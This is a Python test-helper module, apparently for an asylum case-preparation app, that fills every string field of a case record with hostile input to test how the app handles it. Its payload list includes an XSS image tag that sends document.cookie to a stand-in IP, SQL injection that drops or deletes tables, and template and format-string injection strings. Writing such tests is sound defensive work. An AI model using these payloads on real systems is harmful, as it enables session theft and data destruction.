"""Hostile text, and a generic filler that puts a text into every string field of a record.

The filler walks the pydantic models themselves, so fields added later are attacked too."""

from __future__ import annotations

import re
import types
import typing
from datetime import date, datetime
from enum import Enum
from typing import Any

from annotated_types import MaxLen
from pydantic import BaseModel

from asylum_prep.domain.record import SCHEMA_VERSION, CaseRecord

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "img_onerror": '<img src=x onerror="fetch(\'http://198.51.100.7/\'+document.cookie)">',
    "jinja_expr": "{{ 7*7 }}",
    "jinja_block": "{% for x in range(9) %}{{ x }}{% endfor %}",
    "js_template": "${7*7}",
    "format_attr": "{0.__class__.__mro__}",
    "format_key": "{case_id} {reason} %s %(x)s",
    "sql": "'; DROP TABLE cases; --",
    "sql_quote": "Robert'); DELETE FROM case_versions WHERE ('1'='1",
    "fts": 'NEAR( "a" * ^ OR AND -x col:y',
    "rtl_override": "\u202eexe.txt\u202c and \u202bعربي\u202c",
    "zero_width": "a\u200bb\u200dc\ufeffd\u2060e",
    "nul": "before\x00after",
    "controls": "bell\x07 esc\x1b[31m tab\t cr\r lf\n del\x7f",
    "emoji": "😀👍🏽 👨‍👩‍👧‍👦 🏳️‍🌈 🇮🇷",
    "combining": "Z̴̡̛a̷͎l̸̰g̵̣o̶͉ ناصر 李 ሰላም",
    "backslashes": "C:\\temp\\n\\x00 \\u0000 \\\\",
}

LONG = "ناصر " * 20_000  # 100,000 characters, the model's limit for a free-text answer
assert len(LONG) == 100_000
LONE_SURROGATES = ["a\ud800b", "\udfff", "x\udc80"]


def max_len(field_info: Any) -> int | None:
    """A string field's maximum length, from its own metadata or its Annotated type."""
    metas = list(field_info.metadata)
    args = typing.get_args(field_info.annotation)
    if typing.get_origin(field_info.annotation) is typing.Annotated:
        metas += list(args[1:])
    for meta in metas:
        limit = getattr(meta, "max_length", None)
        if isinstance(meta, MaxLen):
            limit = meta.max_length
        if limit is not None:
            return int(limit)
    return None


def _strip_optional(annotation: Any) -> Any:
    origin = typing.get_origin(annotation)
    if origin in (typing.Union, types.UnionType):
        return next(a for a in typing.get_args(annotation) if a is not type(None))
    return annotation


def _value(annotation: Any, text: str, limit: int | None) -> Any:
    annotation = _strip_optional(annotation)
    origin = typing.get_origin(annotation)
    args = typing.get_args(annotation)
    if origin is typing.Annotated:
        inner_limit = next((getattr(m, "max_length", None) for m in args[1:]
                            if getattr(m, "max_length", None) is not None), limit)
        return _value(args[0], text, inner_limit)
    if origin is list:
        return [_value(args[0], text, None)]
    if origin is dict:
        key_type = _strip_optional(args[0])
        if isinstance(key_type, type) and issubclass(key_type, Enum):
            return {list(key_type)[0].value: _value(args[1], text, None)}
        return {f"k:{text}"[:500]: _value(args[1], text, None)}
    if isinstance(annotation, type):
        if issubclass(annotation, Enum):
            return list(annotation)[0].value
        if issubclass(annotation, BaseModel):
            return fill_model(annotation, text)
        if annotation is bool:
            return True
        if annotation is int:
            return 7
        if annotation is datetime:
            return "2024-02-29T23:59:59Z"
        if annotation is date:
            return "2024-02-29"
        if annotation is str:
            return text if limit is None else text[:limit]
    if annotation is Any:
        return {"text": text, "nested": [text]}
    return None


_PATTERNED = ["a" * 64, "abc123", "A123456789", "us", "2024-01-01"]


def fill_model(model: type[BaseModel], text: str) -> dict[str, Any]:
    out: dict[str, Any] = {}
    for name, info in model.model_fields.items():
        metas = [*info.metadata, *typing.get_args(info.annotation)[1:]]
        pattern = next((getattr(m, "pattern", None) for m in metas
                        if getattr(m, "pattern", None)), None)
        if pattern:  # ids, hashes, codes are not free text: a value matching the pattern
            match = next((c for c in _PATTERNED if re.fullmatch(pattern, c)), None)
            if match is not None:
                out[name] = match
            continue
        value = _value(info.annotation, text, max_len(info))
        if value is not None:
            out[name] = value
    return out


def hostile_record(text: str) -> CaseRecord:
    """A record with `text` in every free-text field (cut to each field's own limit), dropping
    only what cannot be valid (a pattern-bound field, an item needing a pattern id)."""
    data = fill_model(CaseRecord, text)
    data["schema_version"] = SCHEMA_VERSION  # a version number, not free text: the current one
    from pydantic import ValidationError

    for _ in range(300):
        try:
            return CaseRecord.model_validate(data)
        except ValidationError as exc:
            for err in exc.errors():
                _drop(data, tuple(err["loc"]))
    raise AssertionError("could not build a hostile record")


def _drop(data: Any, loc: tuple) -> None:
    if loc and loc[-1] == "[key]":
        loc = loc[:-1]
    node = data
    for part in loc[:-1]:
        try:
            node = node[part]
        except (KeyError, IndexError, TypeError):
            return
    if isinstance(node, dict):
        node.pop(loc[-1], None)
    elif isinstance(node, list) and isinstance(loc[-1], int) and loc[-1] < len(node):
        node.pop(loc[-1])


def string_leaves(record: CaseRecord) -> list[tuple[str, str]]:
    """Every string in the record's JSON form (keys included) with where it is."""
    out: list[tuple[str, str]] = []

    def walk(node: Any, where: str) -> None:
        if isinstance(node, dict):
            for k, v in node.items():
                out.append((f"{where}[key]", str(k)))
                walk(v, f"{where}.{k}")
        elif isinstance(node, list):
            for i, v in enumerate(node):
                walk(v, f"{where}[{i}]")
        elif isinstance(node, str):
            out.append((where, node))

    walk(record.model_dump(mode="json"), "")
    return out


ISO_LIKE = re.compile(r"^\d{4}-\d{2}-\d{2}")
